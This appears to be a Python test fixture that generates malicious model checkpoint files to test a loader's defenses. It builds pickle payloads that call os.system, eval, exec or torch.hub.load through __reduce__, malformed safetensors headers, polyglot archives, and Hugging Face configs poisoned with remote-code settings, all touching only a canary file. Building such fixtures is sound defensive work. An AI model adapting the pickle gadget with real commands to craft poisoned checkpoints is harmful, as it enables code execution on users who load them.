"""Files that try to run code or to waste memory when they are opened; each touches a canary file.

Every maker writes one file or folder and returns nothing; `CANARY` stands for the path that would
appear if anything ran.
"""

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import torch
from _made import network, rewritten, saved

_MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)


class Touch:
    """Unpickled, it calls a function of the attacker's choice."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def _payloads(canary):
    write = f"open({str(canary)!r}, 'w')"
    return {
        "system": Touch(os.system, f"touch {canary}"),
        "eval": Touch(eval, write),
        "exec": Touch(exec, write),
        "open": Touch(open, str(canary), "w"),
        "spawn": Touch(os.execv, "/bin/touch", ["touch", str(canary)]),
        "import": Touch(__import__, "antigravity"),
        "numpy": Touch(np.memmap, str(canary), "uint8", "w+", 0, (4,)),
        "hub": Touch(torch.hub.load, "somebody/code", "own"),
        "save": Touch(torch.save, 1, str(canary)),
    }


def _zip_of(pickled, *, extra=(), method=zipfile.ZIP_STORED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        for name, content in extra:
            archive.writestr(f"archive/{name}", content)
    return made.getvalue()


def _npy_of_objects(payload):
    made = io.BytesIO()
    np.save(made, np.array([payload], dtype=object), allow_pickle=True)
    return made.getvalue()


def _tar_of(pickled):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        member = tarfile.TarInfo("pickle")
        member.size = len(pickled)
        archive.addfile(member, io.BytesIO(pickled))
    return made.getvalue()


def _script(path):
    """A program of TorchScript, made of two layers."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(torch.nn.Linear(2, 2)).save(str(path))


def _header(table, data=b""):
    text = table if isinstance(table, bytes) else json.dumps(table).encode()
    return struct.pack("<Q", len(text)) + text + data


def _tensor(shape=(2,), dtype="F32", offsets=(0, 8)):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": list(offsets)}


def safetensors_abuse():
    """Files with the ending of safetensors whose header lies."""
    return {
        "cut_length": b"\x08\x00",
        "huge_length": struct.pack("<Q", 2**63) + b"{}",
        "longer_than_file": struct.pack("<Q", 10**6) + b"{}",
        "no_json": _header(b"not json at all"),
        "a_list": _header(b"[]"),
        "deep": _header(b"[" * 200_000),
        "no_offsets": _header({"w": {"dtype": "F32", "shape": [2]}}, b"\0" * 8),
        "outside": _header({"w": _tensor(offsets=(0, 800), shape=(200,))}, b"\0" * 8),
        "negative": _header({"w": _tensor(offsets=(-8, 0))}, b"\0" * 8),
        "overlap": _header({"a": _tensor(), "b": _tensor()}, b"\0" * 8),
        "gap": _header({"a": _tensor(offsets=(8, 16))}, b"\0" * 16),
        "too_small": _header({"a": _tensor(shape=(10**9, 10**9))}, b"\0" * 8),
        "huge_shape": _header({"a": _tensor(shape=(2**62, 2**62, 4))}, b"\0" * 8),
        "own_dtype": _header({"a": _tensor(dtype="os.system")}, b"\0" * 8),
        "wrong_type": _header({"a": _tensor(shape=("2",))}, b"\0" * 8),
        "rest": _header({"a": _tensor()}, b"\0" * 80),
    }


def files(canary):
    """Name -> bytes, for every attack that is one file."""
    made = {}
    for kind, payload in _payloads(canary).items():
        pickled = pickle.dumps(payload, protocol=2)
        for ending in (".pth", ".pt", ".bin"):
            made[f"plain_{kind}{ending}"] = pickled
            made[f"zip_{kind}{ending}"] = _zip_of(pickled)
        made[f"old_{kind}.pth"] = _MAGIC + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickled
        made[f"inside_{kind}.pth"] = _zip_of(pickle.dumps({"w": payload}, 2))
        made[f"renamed_{kind}.safetensors"] = pickled
        made[f"zip_{kind}.safetensors"] = _zip_of(pickled)
    evil = pickle.dumps(_payloads(canary)["system"], protocol=2)
    for ending in (".ckpt", ".pkl", ".pickle", ".joblib", ".h5", ".keras", ".npz", ".msgpack"):
        made[f"other{ending}"] = evil
    made["objects.npy"] = _npy_of_objects(_payloads(canary)["system"])
    made["objects.pth"] = made["objects.npy"]
    made["archive.pth"] = _tar_of(evil)
    made["packed.pth"] = _zip_of(evil, method=zipfile.ZIP_DEFLATED)
    made["code.pt"] = _zip_of(evil, extra=[("code/own.py", "x = 1"), ("constants.pkl", evil)])
    made["polyglot.safetensors"] = _header({"a": _tensor()}, b"\0" * 8) + _zip_of(evil)
    made["polyglot.pth"] = evil + _zip_of(evil)
    for magic, ending in ((b"GGUF", ".gguf"), (b"\x08\x07", ".onnx"), (b"\x89HDF\r\n", ".bin")):
        made[f"magic{ending}"] = magic + bytes(64)
    made["page.safetensors"] = b"<!doctype html><title>Not found</title>"
    made["page.pth"] = b"\n<html>Sign in</html>"
    made["pointer.safetensors"] = b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"
    made["empty.safetensors"] = made["empty.pth"] = b""
    made |= {f"{name}.safetensors": content for name, content in safetensors_abuse().items()}
    return made


def tensors_that_lie(folder):
    """Files that torch's restricted reader opens, and that still must not be used."""
    wide = torch.zeros(1).expand(10**12)
    torch.save({"wide": wide}, folder / "wide.pth")
    torch.save({"w": torch.tensor([1.0, float("nan")])}, folder / "nan.pth")
    torch.save({"w": torch.tensor([float("inf")])}, folder / "infinite.pth")
    torch.save({"w": torch.eye(3).to_sparse()}, folder / "sparse.pth")
    torch.save({"w": 7}, folder / "number.pth")
    torch.save([torch.zeros(2)], folder / "list.pth")
    torch.save({"model": {"w": torch.zeros(2)}, "state_dict": {"w": 1}}, folder / "two.pth")
    torch.save({}, folder / "nothing.pth")
    _script(folder / "script.pt")


POISONED = (
    {"auto_map": {"AutoModel": "modeling_own.Own"}, "model_type": "bert"},
    {"auto_map": {"AutoModel": "modeling_own.Own"}, "model_type": "own"},
    {"trust_remote_code": True},
    {"_target_": "os.system"},
    {"_attn_implementation_internal": "somebody/kernel"},
    {"hidden_size": 10**9},
    {"vocab_size": 1_900_000},
    {"architectures": ["os.system"], "model_type": "os"},
)


def folders(root, canary):
    """Checkpoints as `save_pretrained` writes them, poisoned in one document each."""
    for number, poison in enumerate(POISONED):
        folder = saved(root / f"poisoned_{number}", "bert", "BertModel")
        rewritten(folder, **poison)
        (folder / "modeling_own.py").write_text(f"open({str(canary)!r}, 'w')")
    evil = pickle.dumps(_payloads(canary)["system"], protocol=2)
    for name in ("pytorch_model.bin", "model.safetensors"):
        folder = saved(root / f"evil_{name}", "bert", "BertModel")
        (folder / "model.safetensors").unlink()
        (folder / name).write_bytes(evil)
    folder = saved(root / "tokenizer", "bert", "BertModel")
    (folder / "tokenizer_config.json").write_text('{"auto_map": {"AutoTokenizer": "own.Own"}}')


def everything(root: Path, canary: Path):
    """Write every attack below `root`; returns how many there are."""
    root.mkdir(parents=True)
    for name, content in files(canary).items():
        (root / name).write_bytes(content)
    tensors_that_lie(root)
    folders(root, canary)
    assert network("bert", "BertModel") is not None  # the innocent one can be made
    return sorted(root.iterdir())
